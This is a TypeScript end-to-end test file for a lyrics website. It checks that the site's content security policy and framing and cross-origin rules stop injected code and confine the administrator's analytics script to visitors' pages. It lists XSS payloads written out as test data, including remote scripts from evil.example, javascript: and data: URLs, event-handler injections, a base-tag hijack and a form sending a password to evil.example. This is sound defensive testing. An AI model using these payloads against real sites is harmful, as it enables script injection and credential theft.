/** Which scripts run: ours and those of the administrator's codes on visitors' pages, and never what got into a page. */
import { createServer, type Server } from "node:http";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { listen } from "../../../server/listen.ts";
import { openAdministration } from "../admin/administrator.ts";

const { address, sql, visit, visitAsStranger } = openAdministration();

/** What a hole in the site would let an attacker write into a page. */
const injections = {
  "an inline script": "<script>window.injected=1</script>",
  "a script from elsewhere": '<script src="https://evil.example/x.js"></script>',
  "a script of the site's own address": '<script src="/rest/v1/lyrics?apikey=antara-public"></script>',
  "a script as data": '<script src="data:text/javascript,window.injected=1"></script>',
  "a module": '<script type="module">window.injected=1</script>',
  "a handler": '<img src="/favicon.svg" onload="window.injected=1"><svg onload="window.injected=1"></svg>',
  "a frame with a script": '<iframe srcdoc="<script>parent.injected=1</script>"></iframe>',
  "a frame with an address": '<iframe src="javascript:parent.injected=1"></iframe>',
  "another base for all addresses": '<base href="https://evil.example/">',
  "an object": '<object data="data:text/html,<script>parent.injected=1</script>"></object>',
  "a form for the password":
    '<form action="https://evil.example/"><input name=a><button id=sent>go</button></form>',
  "a style from elsewhere":
    '<link rel=stylesheet href="https://evil.example/x.css"><style>body{opacity:0}</style>',
} as const;

/** Puts it into the page on its way to the browser; its headers stay as they are. */
async function inject(page: Page, html: string): Promise<void> {
  await page.route(
    (url) => !url.pathname.startsWith("/assets/") && url.origin === address(),
    async (route) => {
      if (route.request().resourceType() !== "document") return route.continue();
      const answer = await route.fetch();
      const body = (await answer.text()).replace("</main>", `<div id="hole">${html}</div></main>`);
      await route.fulfill({ response: answer, body });
    },
  );
  await page.route(/evil\.example/, (route) => route.fulfill({ status: 200, body: "window.injected=1" }));
}

/** What was refused, as the browser tells the page itself. */
const watchPolicy = (page: Page) =>
  page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
  });

const read = (page: Page, name: string) => page.evaluate((key) => (window as never)[key] ?? null, name);

for (const [where, path, open] of [
  ["a visitor's page", "/about-us", visitAsStranger],
  ["the administrator's settings", "/admin/settings", visit],
] as const) {
  describe(`written into ${where}`, () => {
    test.each(Object.entries(injections))("%s does nothing", async (_what, html) => {
      await open(
        path,
        {
          expectFaults: true,
          before: async (page) => {
            await watchPolicy(page);
            await inject(page, html);
          },
        },
        async (page) => {
          await page.locator("#hole").waitFor({ state: "attached" });
          if (html.includes("id=sent")) await page.locator("#sent").click();
          await expect.poll(() => read(page, "refused")).not.toEqual([]);
          expect(await read(page, "injected")).toBeNull();
          expect(page.url()).toBe(address() + path);
          expect(await page.evaluate(() => getComputedStyle(document.body).opacity)).toBe("1");
        },
      );
    });
  });
}

describe("the codes of advertisers and of analytics", () => {
  let network: Server;
  let networkAddress: string;
  beforeAll(async () => {
    network = createServer((_, answer) => {
      answer.setHeader("Content-Type", "text/javascript");
      answer.end("window.fromTheNetwork = (window.fromTheNetwork ?? 0) + 1;");
    });
    networkAddress = await listen(network, "127.0.0.1", 0);
    const code = `<script src="${networkAddress}/ad.js"></script><script>window.inlineCode = 1</script>`;
    await sql()`insert into settings (key, value) values ('analyticsCode', ${code}) on conflict (key) do update set value = excluded.value`;
    await expect.poll(async () => (await fetch(`${address()}/about-us`)).text()).toContain("ad.js");
  });
  afterAll(() => {
    network.closeAllConnections();
    network.close();
  });

  test("run on visitors' pages, and what is injected beside them does not", () =>
    visitAsStranger(
      "/about-us",
      { expectFaults: true, before: (page) => inject(page, injections["an inline script"]) },
      async (page) => {
        await expect.poll(() => read(page, "fromTheNetwork")).toBe(1);
        await expect.poll(() => read(page, "inlineCode")).toBe(1);
        expect(await read(page, "injected")).toBeNull();
      },
    ));

  test("never run in the administration, not even in its preview beside the session", () =>
    visit("/admin/settings", {}, async (page) => {
      for (const path of ["/admin/settings", "/admin/lyrics/add", "/admin/dashboard"]) {
        await page.goto(path);
        await page.getByText("Welcome, Admin!").waitFor();
        await page.waitForLoadState("networkidle");
        expect(await read(page, "fromTheNetwork")).toBeNull();
        expect(await read(page, "inlineCode")).toBeNull();
      }
    }));
});

describe("another site", () => {
  let evil: Server;
  let evilAddress: string;
  beforeAll(async () => {
    evil = createServer((request, answer) => {
      answer.setHeader("Content-Type", "text/html");
      answer.end(`<title>evil</title><iframe src="${address()}${request.url}"></iframe>`);
    });
    evilAddress = (await listen(evil, "127.0.0.1", 0)).replace("127.0.0.1", "localhost");
  });
  afterAll(() => {
    evil.closeAllConnections();
    evil.close();
  });

  test.each(["/about-us", "/admin", "/admin/settings", "/admin/settings/preview"])(
    "cannot show %s in a frame, to have it clicked unseen",
    (path) =>
      visit("/about-us", { expectFaults: true }, async (page) => {
        await page.goto(evilAddress + path);
        const frame = page.frames()[1];
        await frame?.waitForLoadState();
        expect(frame?.url()).toMatch(/^chrome-error:/);
      }),
  );

  test("that opens a page holds nothing of it in its hand", () =>
    visit("/about-us", { expectFaults: true }, async (page) => {
      await page.goto(`${evilAddress}/about-us`);
      const [opened] = await Promise.all([
        page.waitForEvent("popup"),
        page.evaluate((url) => {
          Object.assign(window, { held: open(url) });
        }, `${address()}/about-us`),
      ]);
      await opened.waitForLoadState();
      await expect
        .poll(() => page.evaluate(() => (window as never as { held: Window }).held.closed))
        .toBe(true);
      expect(await opened.evaluate(() => opener)).toBeNull();
      await opened.close();
    }));

  test("reads no page and no row with the visitor's cookies, and loads no script of ours as its own", () =>
    visit("/about-us", { expectFaults: true }, async (page) => {
      await page.goto(`${evilAddress}/about-us`);
      const tried = (url: string, init: { readonly method?: string; readonly credentials: "include" }) =>
        page.evaluate(
          ([url, init]) =>
            fetch(url, init).then(
              () => "read",
              () => "refused",
            ),
          [url, init] as const,
        );
      for (const path of ["/admin/session", "/", "/rest/v1/lyrics?apikey=antara-public"])
        expect([path, await tried(address() + path, { credentials: "include" })]).toEqual([path, "refused"]);
      expect(await tried(`${address()}/admin/logout`, { method: "POST", credentials: "include" })).toBe(
        "refused",
      );
      const session = await page.request.get(`${address()}/admin/session`);
      expect(await session.json()).toEqual({ stands: true });
    }));
});
